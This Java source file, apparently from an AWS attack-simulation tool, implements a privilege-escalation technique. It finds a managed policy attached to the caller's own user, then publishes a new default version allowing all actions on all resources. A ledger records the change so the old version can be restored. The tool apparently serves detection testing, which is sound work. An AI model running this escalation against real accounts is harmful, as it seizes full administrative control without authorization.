package io.firedrill.injector.technique.privilegeescalation;

import io.firedrill.injector.aws.ApiCall;
import io.firedrill.injector.aws.AwsSession;
import io.firedrill.injector.cleanup.Change;
import io.firedrill.injector.cleanup.Ledger;
import io.firedrill.injector.technique.Arns;
import io.firedrill.injector.technique.Grant;
import io.firedrill.injector.technique.IncidentType;
import io.firedrill.injector.technique.Parameters;
import io.firedrill.injector.technique.Technique;
import io.firedrill.injector.technique.TechniqueInfo;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import software.amazon.awssdk.services.iam.model.AttachedPolicy;
import software.amazon.awssdk.services.iam.model.PolicyVersion;

/**
 * Publishes a new default version, allowing everything, of a customer managed policy attached to
 * the attacker's own user: iam:CreatePolicyVersion is all it takes, no SetDefaultPolicyVersion.
 */
public final class IamCreatePolicyVersion implements Technique<IamCreatePolicyVersion.Params> {

  /**
   * @param policyArn the policy to rewrite, or null for the first customer managed policy attached
   *     to the key's own user
   */
  public record Params(String policyArn) {

    public Params {
      if (policyArn != null && !policyArn.matches("arn:aws:iam::\\d{12}:policy/.+")) {
        throw new IllegalArgumentException(
            "policyArn must be a customer managed policy's ARN,"
                + " arn:aws:iam::ACCOUNT:policy/NAME; got '"
                + policyArn
                + "'");
      }
    }
  }

  private static final TechniqueInfo INFO =
      new TechniqueInfo(
          "aws.privilege-escalation.iam-create-policy-version",
          "Rewrite one's own managed policy to allow everything",
          "Finds a customer managed policy attached to its own user (sts:GetCallerIdentity,"
              + " iam:ListAttachedUserPolicies), reads its versions, then calls"
              + " iam:CreatePolicyVersion with SetAsDefault and a document allowing * on *."
              + " Cleanup makes the old version the default again and deletes the new one.",
          List.of("T1098.003"),
          IncidentType.PRIVILEGE_ESCALATION,
          List.of(
              "GetCallerIdentity",
              "ListAttachedUserPolicies",
              "ListPolicyVersions",
              "CreatePolicyVersion"),
          List.of("PrivilegeEscalation:IAMUser/AnomalousBehavior"),
          List.of(
              "iam:ListAttachedUserPolicies", "iam:ListPolicyVersions", "iam:CreatePolicyVersion"));

  @Override
  public TechniqueInfo info() {
    return INFO;
  }

  @Override
  public Params parameters(Map<String, String> with) {
    Parameters.allowOnly(with, Set.of("policyArn"));
    return new Params(with.get("policyArn"));
  }

  @Override
  public List<Grant> grants(Params p, Arns arns) {
    // sts:GetCallerIdentity needs no permission: AWS lets every caller ask who it is.
    List<Grant> grants = new ArrayList<>();
    String policy;
    if (p.policyArn() != null) {
      policy = p.policyArn();
    } else if (arns.roleSession()) {
      return List.of(); // no user of its own whose policies it could look up
    } else {
      grants.addAll(Grant.on(arns.selfUser(), "iam:ListAttachedUserPolicies"));
      policy = arns.policy("*"); // whichever the user has: found only when detonated
    }
    grants.addAll(Grant.on(policy, "iam:ListPolicyVersions", "iam:CreatePolicyVersion"));
    return grants;
  }

  @Override
  public List<ApiCall> detonate(AwsSession session, Params p, Ledger ledger) {
    List<ApiCall> calls = new ArrayList<>();
    String policyArn = p.policyArn() != null ? p.policyArn() : ownPolicy(session, calls);
    if (policyArn == null) {
      return calls;
    }
    List<PolicyVersion> versions = new ArrayList<>();
    calls.add(
        session.call(
            "iam",
            "ListPolicyVersions",
            () -> {
              var listed = session.iam().listPolicyVersions(r -> r.policyArn(policyArn));
              versions.addAll(listed.versions());
              return listed;
            }));
    String defaultVersion =
        versions.stream()
            .filter(PolicyVersion::isDefaultVersion)
            .map(PolicyVersion::versionId)
            .findFirst()
            .orElse(null);
    if (defaultVersion == null) {
      return calls; // without the default version there is nothing cleanup could restore
    }
    ledger.willMake(
        new Change(
            Change.POLICY_VERSION,
            policyArn,
            Map.of(
                "defaultVersion",
                defaultVersion,
                "existing",
                versions.stream().map(PolicyVersion::versionId).collect(Collectors.joining(",")))));
    calls.add(
        session.call(
            "iam",
            "CreatePolicyVersion",
            () ->
                session
                    .iam()
                    .createPolicyVersion(
                        r ->
                            r.policyArn(policyArn)
                                .policyDocument(IamPutUserPolicySelf.ALLOW_ALL)
                                .setAsDefault(true))));
    return calls;
  }

  private static String ownPolicy(AwsSession session, List<ApiCall> calls) {
    String self = SelfName.lookUp(session, calls);
    if (self == null) {
      return null;
    }
    String[] found = new String[1];
    calls.add(
        session.call(
            "iam",
            "ListAttachedUserPolicies",
            () -> {
              var attached = session.iam().listAttachedUserPolicies(r -> r.userName(self));
              found[0] =
                  attached.attachedPolicies().stream()
                      .map(AttachedPolicy::policyArn)
                      .filter(arn -> !arn.startsWith("arn:aws:iam::aws:"))
                      .findFirst()
                      .orElse(null);
              return attached;
            }));
    return found[0];
  }
}
